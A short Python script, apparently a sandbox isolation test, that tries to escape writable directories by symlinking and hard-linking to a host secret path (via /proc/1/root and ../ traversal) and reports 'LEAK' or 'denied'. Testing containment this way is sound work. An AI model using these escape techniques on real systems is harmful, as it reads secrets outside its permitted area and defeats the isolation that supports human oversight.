# Escape attempt: follow symlinks out of the writable directories. argv[1] = host secret path.
import os, sys

secret = sys.argv[1]
links = {"/tmp/l1": secret, "/tmp/l2": "/proc/1/root" + secret, "/tmp/l3": "../../../../../.." + secret,
         "/work/l4": secret}
for link, target in links.items():
    try:
        os.symlink(target, link)
    except OSError as e:
        print("denied symlink", link, e.strerror)
        continue
    try:
        with open(link) as f:
            print("LEAK:" + f.read().strip(), "via", link)
    except OSError as e:
        print("denied read", link, e.strerror)
try:
    os.link(secret, "/tmp/hard")
    print("LEAK: hard link made")
except OSError as e:
    print("denied hardlink", e.strerror)
